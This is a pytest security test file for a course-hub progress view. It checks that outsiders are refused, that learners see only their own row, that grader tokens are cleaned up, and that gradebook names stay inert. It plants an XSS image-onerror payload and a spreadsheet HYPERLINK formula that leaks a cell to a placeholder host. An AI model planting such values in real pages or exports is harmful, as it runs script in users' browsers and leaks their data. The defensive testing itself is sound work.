"""The progress view (/hub/kemajuan, the grader's /progress) played by its
attackers, on the real stack.

- A learner of another course, or of none, sees nothing of a course: not
  the page, the CSV or the chart, and not the grader's summary with her
  own token either.
- A learner of the course who asks the grader herself, for the chart too,
  gets her own row and no class numbers.
- Names in the gradebook that are markup or spreadsheet formulas (an
  assignment named by a trainer's compromised server) are text on the page
  and neutral cells in the CSV.
- Each page view's token for the grader is gone once the page is answered.
"""

from __future__ import annotations

import csv
import io

import pytest

from support.hub_client import Browser, poll, signed_in

COURSE = "kelas-rahasia"
OTHER = "kelas-tetangga"
TASK = "01-variabel"
MARKUP = '<img src=x onerror="alert(1)">'
FORMULA = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'


@pytest.fixture(scope="module")
def course(make_course, new_learner, stack):
    trainer, (siti, budi) = make_course(COURSE, TASK, learners=2)
    assert siti.act("fetch", TASK)["success"] and siti.act("submit", TASK)["success"]
    trainer.collect(TASK)
    trainer.autograde_ok(TASK, siti.user.name)
    neighbour = new_learner("tetangga")
    stack.enrol(OTHER, trainers=[neighbour.name], learners=[budi.user.name])
    return trainer, siti, budi, neighbour


_browsers: dict[str, Browser] = {}


def hub_page(user, path: str):
    """A hub page as her browser gets it."""
    if user.name not in _browsers:
        _browsers[user.name] = signed_in(user)
    return _browsers[user.name].session.get(f"{user.base_url}/hub/kemajuan{path}", timeout=180, allow_redirects=False)


def grader(user, body: dict):
    return user.http.post(f"{user.base_url}/services/grader/progress", json=body, timeout=180)


def test_nobody_outside_the_course_sees_it(course):
    _trainer, _siti, _budi, neighbour = course
    for path in (f"/{COURSE}", f"/{COURSE}/kemajuan.csv", f"/{COURSE}/grafik.png"):
        response = hub_page(neighbour, path)
        assert response.status_code == 403, (path, response.status_code)
        assert b"data-learner" not in response.content
    assert grader(neighbour, {"course": COURSE}).status_code == 403
    assert COURSE not in hub_page(neighbour, "").text


def test_a_learner_asking_the_grader_herself_gets_her_own_row_only(course):
    _trainer, siti, budi, _neighbour = course
    words = {key: "x" for key in ("title", "submitted", "mean", "axis", "empty")}
    response = grader(budi.user, {"course": COURSE, "chart": words})
    assert response.status_code == 200, response.text
    summary = response.json()
    assert summary["whole_class"] is False and summary["chart"] is None
    assert [row["name"] for row in summary["learners"]] == [budi.user.name]
    assert siti.user.name not in response.text
    assert all("mean_percent" not in a and "submitted" not in a for a in summary["assignments"])
    # In her other course she is a learner too: her row there, nothing more.
    other = grader(budi.user, {"course": OTHER})
    assert other.status_code == 200 and other.json()["whole_class"] is False


def test_markup_and_formulas_in_the_gradebook_stay_text(course):
    trainer, siti, _budi, _neighbour = course
    code = ("from nbgrader.api import Gradebook\n"
            f"with Gradebook('sqlite:////srv/nbgrader/courses/{COURSE}/gradebook.db', "
            f"course_id='{COURSE}') as gb:\n"
            f"    gb.add_assignment({MARKUP!r})\n    gb.add_assignment({FORMULA!r})\n"
            "print('PLANTED')")
    assert "PLANTED" in trainer.user.run_code(code, timeout=120)
    # The grader keeps a summary for 20 s: wait for one that has them.
    html = poll("the planted assignments on the page",
                lambda: (text := hub_page(trainer.user, f"/{COURSE}").content.decode())
                and "onerror" in text and text, timeout=120)
    assert MARKUP not in html
    assert "&lt;img src=x onerror=&#34;alert(1)&#34;&gt;" in html
    cells = next(csv.reader(io.StringIO(
        hub_page(trainer.user, f"/{COURSE}/kemajuan.csv").content.decode("utf-8-sig"))))
    assert "'" + FORMULA in cells and FORMULA not in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_the_grader_token_of_a_page_view_is_deleted_after_it(course, admin):
    trainer, _siti, _budi, _neighbour = course

    def tokens():
        response = admin.api("GET", f"/users/{trainer.user.name}/tokens")
        assert response.status_code == 200, response.text
        return {token["id"] for token in response.json()["api_tokens"]}

    before = tokens()
    assert hub_page(trainer.user, f"/{COURSE}").status_code == 200
    assert tokens() == before
